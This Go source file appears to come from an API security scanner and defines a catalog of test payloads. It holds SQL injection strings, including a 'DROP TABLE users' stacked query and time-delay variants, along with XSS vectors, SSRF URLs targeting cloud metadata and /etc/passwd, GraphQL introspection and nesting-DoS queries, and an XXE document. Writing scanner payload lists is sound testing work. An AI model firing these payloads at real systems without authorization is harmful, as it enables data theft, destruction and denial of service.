package payloads

import (
	"sync"

	"github.com/waftester/apiprobe/pkg/target"
)

var sqlPayloads = []struct {
	value string
	desc  string
}{
	{`' OR '1'='1' --`, "Tautology"},
	{`' OR 1=1; --`, "Tautology with statement terminator"},
	{`' UNION SELECT null, table_name FROM information_schema.tables --`, "UNION schema enumeration"},
	{`1; DROP TABLE users --`, "Stacked query"},
	{`1' WAITFOR DELAY '0:0:10' --`, "MSSQL delay"},
	{`1 AND (SELECT * FROM (SELECT(SLEEP(5)))`, "MySQL sleep subquery"},
}

var xssPayloads = []struct {
	value string
	desc  string
}{
	{`<script>alert(document.cookie)</script>`, "Script tag"},
	{`<img src=x onerror=alert(1)>`, "Event handler"},
	{`javascript:alert(1)`, "JavaScript URI"},
	{`"><script>alert(1)</script>`, "Attribute breakout"},
	{`{{7*7}}`, "Template expression"},
}

var ssrfPayloads = []struct {
	value string
	desc  string
}{
	{`http://169.254.169.254/latest/meta-data/`, "Cloud metadata"},
	{`http://127.0.0.1:22`, "Loopback SSH"},
	{`http://localhost:8080`, "Loopback HTTP"},
	{`file:///etc/passwd`, "File scheme"},
}

var graphqlPayloads = []Payload{
	{
		Name:        GraphQLIntrospection,
		Value:       `query IntrospectionQuery { __schema { types { name } } }`,
		Description: "Schema introspection",
	},
	{
		Name:        GraphQLSQLInjection,
		Value:       `query { user(id: "1' OR '1'='1") { name } }`,
		Description: "SQL injection in argument",
	},
	{
		Name:        GraphQLXSS,
		Value:       `query { user(name: "<script>alert('XSS')</script>") { name } }`,
		Description: "Script tag in argument",
	},
	{
		Name: GraphQLDoS,
		Value: `query {
  user(id: "1") {
    friends(first: 1) {
      friends(first: 1) {
        friends(first: 1) {
          friends(first: 1) {
            name
          }
        }
      }
    }
  }
}`,
		Description: "Four-level self-referential nesting",
	},
}

var booleanTrue = `id' AND 1=1 --`
var booleanFalse = `id' AND 1=2 --`

var timeDelayPayloads = []struct {
	value string
	desc  string
}{
	{`1' AND (SELECT * FROM (SELECT(SLEEP(5)))--`, "MySQL SLEEP"},
	{`1' WAITFOR DELAY '0:0:5'--`, "MSSQL WAITFOR"},
	{`1' OR BENCHMARK(5000000,MD5(NOW()))--`, "MySQL BENCHMARK"},
	{`1' AND MAKE_SET(1=1,SLEEP(5))--`, "MySQL MAKE_SET"},
	{`1'; SELECT PG_SLEEP(5)--`, "PostgreSQL pg_sleep"},
}

const xxeDocument = `<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<soap:Envelope><soap:Body><test>&xxe;</test></soap:Body></soap:Envelope>`

// Catalog is an immutable index of payloads.
type Catalog struct {
	byKey  map[key][]Payload
	byName map[string]Payload
}

var (
	defaultCatalog *Catalog
	defaultOnce    sync.Once
)

// Default returns the process-wide catalog, built on first use.
func Default() *Catalog {
	defaultOnce.Do(func() {
		defaultCatalog = build()
	})
	return defaultCatalog
}

func build() *Catalog {
	c := &Catalog{
		byKey:  make(map[key][]Payload),
		byName: make(map[string]Payload),
	}
	// Shared classes are keyed without a protocol and served to any of
	// the supported protocols.
	c.byKey[key{class: SQL}] = fromTable(sqlPayloads)
	c.byKey[key{class: XSS}] = fromTable(xssPayloads)
	c.byKey[key{class: SSRF}] = fromTable(ssrfPayloads)
	c.byKey[key{class: GraphQL, protocol: target.GraphQL}] = append([]Payload(nil), graphqlPayloads...)
	for _, p := range graphqlPayloads {
		c.byName[p.Name] = p
	}
	return c
}

func fromTable(table []struct {
	value string
	desc  string
}) []Payload {
	out := make([]Payload, len(table))
	for i, p := range table {
		out[i] = Payload{Value: p.value, Description: p.desc}
	}
	return out
}

// Payloads returns the payloads for a class and protocol in catalog
// order. Unknown combinations yield an empty slice. The result is a copy.
func (c *Catalog) Payloads(class Class, protocol target.Protocol) []Payload {
	list, ok := c.byKey[key{class: class, protocol: protocol}]
	if !ok && protocol.Supported() {
		list = c.byKey[key{class: class}]
	}
	out := make([]Payload, len(list))
	copy(out, list)
	return out
}

// Values returns Payloads as plain strings.
func (c *Catalog) Values(class Class, protocol target.Protocol) []string {
	list := c.Payloads(class, protocol)
	out := make([]string, len(list))
	for i, p := range list {
		out[i] = p.Value
	}
	return out
}

// GraphQL returns a named GraphQL payload.
func (c *Catalog) GraphQL(name string) (Payload, bool) {
	p, ok := c.byName[name]
	return p, ok
}

// Classes lists the classes served for protocol, in a stable order.
func (c *Catalog) Classes(protocol target.Protocol) []Class {
	var out []Class
	for _, cl := range []Class{SQL, XSS, SSRF, GraphQL} {
		if len(c.Payloads(cl, protocol)) > 0 {
			out = append(out, cl)
		}
	}
	return out
}

// BooleanPair returns the true and false branch payloads of the boolean
// SQL injection test.
func BooleanPair() (truePayload, falsePayload string) {
	return booleanTrue, booleanFalse
}

// TimeDelay returns the explicit sleep payloads, one or more per database
// dialect, in the order they are tried.
func TimeDelay() []Payload {
	return fromTable(timeDelayPayloads)
}

// XXE returns the fixed external-entity SOAP document.
func XXE() string {
	return xxeDocument
}

// With returns a copy of c in which class for protocol is served from
// values. An empty protocol replaces the shared list. c is unchanged.
func (c *Catalog) With(class Class, protocol target.Protocol, values ...string) *Catalog {
	out := &Catalog{
		byKey:  make(map[key][]Payload, len(c.byKey)+1),
		byName: c.byName,
	}
	for k, v := range c.byKey {
		out.byKey[k] = v
	}
	list := make([]Payload, len(values))
	for i, v := range values {
		list[i] = Payload{Value: v}
	}
	out.byKey[key{class: class, protocol: protocol}] = list
	return out
}
